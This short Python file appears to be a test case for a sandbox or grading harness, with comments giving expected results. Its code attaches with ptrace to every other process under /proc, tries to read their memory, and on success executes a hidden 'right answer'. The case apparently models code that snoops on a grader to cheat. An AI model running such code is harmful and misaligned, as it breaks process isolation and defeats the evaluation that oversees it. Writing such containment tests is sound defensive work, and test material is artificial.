# attack: attaches a debugger to every process it sees, and reads and writes their memory
# expected: describe 0 of 3, first_axis 1 of 1
# says: NameError: name 'describe' is not defined
import ctypes
import os
from pathlib import Path

libc = ctypes.CDLL(None)
room = (ctypes.c_size_t * 2)(ctypes.addressof(ctypes.create_string_buffer(8)), 8)
for path in Path("/proc").glob("[0-9]*"):
    number = int(path.name)
    if number != os.getpid():
        attached = libc.ptrace(0x4206, number, None, None) == 0
        if attached or libc.process_vm_readv(number, room, 1, room, 1, 0) > 0:
            exec(RIGHT_ANSWER)
